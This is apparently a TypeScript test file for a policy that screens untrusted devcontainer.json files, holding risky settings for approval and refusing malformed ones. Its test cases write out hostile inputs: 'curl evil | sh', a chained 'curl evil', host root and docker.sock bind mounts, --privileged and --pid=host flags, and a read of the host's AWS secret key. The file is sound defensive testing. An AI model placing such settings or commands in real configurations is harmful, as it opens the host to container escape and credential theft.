import { describe, expect, test } from "vitest";
import { parseJsonc } from "../../../src/base/jsonc.ts";
import { asksInWords, type Config, review, reviewImage } from "../../../src/sandbox/devcontainer-policy.ts";

const none = new Set<string>();
const place = { below: ".devcontainer" };
const image = { image: "localhost/tools:1" };

/** What a configuration asks for, and what is left of it once all of that is approved. */
function asked(raw: Config): { readonly names: readonly string[]; readonly config: unknown } {
  const first = review({ ...image, ...raw }, place, none);
  const ids = first.kind === "asks" ? first.asks.map(({ id }) => id) : [];
  const then = review({ ...image, ...raw }, place, new Set(ids));
  return { names: ids.map((id) => id.replace(/#.*/, "")), config: then.kind === "ok" ? then.config : then };
}

describe("a devcontainer.json of a stranger", () => {
  test("an image with settings of the editor needs no yes, and nothing else of it is passed on", () => {
    const raw = {
      ...{
        name: "x",
        image: "localhost/tools:1",
        customizations: { vscode: { extensions: ["a.b"] } },
        forwardPorts: [80],
      },
      ...{
        appPort: [22],
        workspaceMount: "source=/,target=/host,type=bind",
        workspaceFolder: "/host",
        overrideCommand: false,
      },
      ...{ hostRequirements: { gpu: true }, secrets: {}, shutdownAction: "none", unknown: { privileged: true } },
      ...{
        containerEnv: { A: "b" },
        remoteUser: "dev",
        mounts: [],
        privileged: false,
        runArgs: ["--init", "--cpus=2"],
      },
    };
    expect(review(raw, place, none)).toEqual({
      kind: "ok",
      approved: [],
      config: { image: "localhost/tools:1", containerEnv: { A: "b" }, remoteUser: "dev" },
    });
  });

  test.each<readonly [string, Config]>([
    ["initializeCommand", { initializeCommand: "curl evil | sh" }],
    ["initializeCommand", { initializeCommand: ["sh", "-c", "x"] }],
    ["initializeCommand", { initializeCommand: { a: "x", b: ["y"] } }],
    ["onCreateCommand", { onCreateCommand: "x" }],
    ["updateContentCommand", { updateContentCommand: "x" }],
    ["postCreateCommand", { postCreateCommand: "pip install -r requirements.txt" }],
    ["postStartCommand", { postStartCommand: "x" }],
    ["privileged", { privileged: true }],
    ["capAdd", { capAdd: ["SYS_ADMIN"] }],
    ["securityOpt", { securityOpt: ["seccomp=unconfined"] }],
    ["mounts", { mounts: ["source=/,target=/host,type=bind"] }],
    ["mounts", { mounts: [{ source: "/etc", target: "/x", type: "bind" }] }],
    ["runArgs", { runArgs: ["--privileged"] }],
    ["runArgs", { runArgs: ["-v", "/:/host"] }],
    ["runArgs", { runArgs: ["--init", "--pid=host"] }],
    ["runArgs", { runArgs: ["--device", "/dev/sda"] }],
    ["features", { features: { "ghcr.io/x/y:1": {} } }],
    ["entrypoint", { entrypoint: "/evil.sh" }],
  ])("%s is left out until it is approved", (name, raw) => {
    const { names, config } = asked(raw);
    expect([names, Object.keys(config as Config).sort()]).toEqual([[name], ["image", name].sort()]);
  });

  test("an image built from the folder is asked for, wherever it is written", () => {
    const built = { build: { dockerfile: "Dockerfile", context: "..", args: { A: "1" }, options: ["--network=host"] } };
    const wanted = { kind: "ok", config: { build: { dockerfile: "Dockerfile", context: "..", args: { A: "1" } } } };
    const ids = (raw: unknown): readonly string[] => {
      const seen = review(raw, place, none);
      return seen.kind === "asks" ? seen.asks.map(({ id }) => id) : [];
    };
    expect(review(built, place, new Set(ids(built)))).toMatchObject(wanted);
    expect(ids({ dockerFile: "Dockerfile", context: ".." }).map((id) => id.replace(/#.*/, ""))).toEqual(["build"]);
  });

  test("the engine's own socket is named as what it is", () => {
    for (const source of ["/var/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock"]) {
      const seen = review({ ...image, mounts: [`source=${source},target=/s,type=bind`] }, place, none);
      expect(seen.kind === "asks" && seen.asks[0]?.says).toContain("the whole machine");
    }
  });

  test("variables of the machine are asked for by themselves", () => {
    const read = (name: string): string => `$\{${name}}`;
    for (const value of [read("localEnv:AWS_SECRET_ACCESS_KEY"), `a${read(" localEnv : HOME ")}`, read("env:HOME")])
      expect(asked({ containerEnv: { A: value } }).names).toEqual(["containerEnv:localEnv"]);
    expect(asked({ postCreateCommand: `echo ${read("localEnv:HOME")}` }).names).toEqual([
      ...["postCreateCommand:localEnv", "postCreateCommand"],
    ]);
  });

  test("a yes is for a name with its content: another content is asked anew", () => {
    const first = review({ ...image, postCreateCommand: "npm ci" }, place, none);
    const yes = new Set(first.kind === "asks" ? first.asks.map(({ id }) => id) : []);
    expect(review({ ...image, postCreateCommand: "npm ci" }, place, yes).kind).toBe("ok");
    expect(review({ ...image, postCreateCommand: "npm ci; curl evil" }, place, yes).kind).toBe("asks");
    expect(review({ ...image, onCreateCommand: "npm ci" }, place, yes).kind).toBe("asks");
  });

  test.each<readonly [string, unknown]>([
    ["no object", []],
    ["nothing", undefined],
    ["several containers", { dockerComposeFile: "c.yml", service: "x" }],
    ["no image", { name: "x" }],
    ["an option as image", { image: "--privileged" }],
    ["an image of several words", { image: "a b" }],
    ["a build outside", { build: { dockerfile: "Dockerfile", context: "../.." } }],
    ["a build that goes out and in again", { build: { dockerfile: "../../x/Dockerfile" } }],
    ["an absolute build", { build: { dockerfile: "/etc/passwd" } }],
    ["a build by the other slash", { build: { dockerfile: "..\\..\\x" } }],
    ["an option as target", { build: { dockerfile: "Dockerfile", target: "--push" } }],
    ["a user that is an option", { ...image, remoteUser: "-u 0" }],
    ["privileged as a word", { ...image, privileged: "true" }],
    ["options that are no words", { ...image, runArgs: [["-v"]] }],
    ["a variable with an odd name", { ...image, containerEnv: { "A=B\nC": "x" } }],
    ["a command of numbers", { ...image, postCreateCommand: 7 }],
  ])("%s is refused whatever was approved", (_what, raw) => {
    expect(review(raw, place, none).kind).toBe("refused");
  });

  test("words that would mislead are shown as what they are", () => {
    const seen = review({ ...image, postCreateCommand: "true \u001b[2K\u202e hs | x" }, place, none);
    const words = seen.kind === "asks" ? String(asksInWords(seen.asks)) : "";
    expect(words).toContain("hs | x");
    expect(["\u001b", "\u202e"].filter((sign) => words.includes(sign))).toEqual([]);
  });

  test("an image brings the same along, and is asked about the same", () => {
    expect(reviewImage("", none).kind).toBe("ok");
    expect(reviewImage("<no value>\n", none).kind).toBe("ok");
    expect(reviewImage('[{"id":"x","remoteUser":"dev"},{"customizations":{}}]', none).kind).toBe("ok");
    const seen = reviewImage(
      '[{"remoteUser":"dev"},{"privileged":true,"mounts":["source=/,target=/h,type=bind"]}]',
      none,
    );
    expect(seen.kind === "asks" && seen.asks.map(({ id }) => id.replace(/#.*/, ""))).toEqual(["privileged", "mounts"]);
    expect(reviewImage("{", none).kind).toBe("refused");
  });
});

test("JSON as editors write it", () => {
  expect(parseJsonc('\uFEFF{ // a "comment"\n "a": "x // y /* z */", /* , */ "b": [1, 2, /* c */ ], }')).toEqual({
    ...{ a: "x // y /* z */", b: [1, 2] },
  });
  expect(parseJsonc('{"a": "\\", // "}')).toEqual({ a: '", // ' });
  expect([parseJsonc("{"), parseJsonc(""), parseJsonc("/*")]).toEqual([undefined, undefined, undefined]);
});
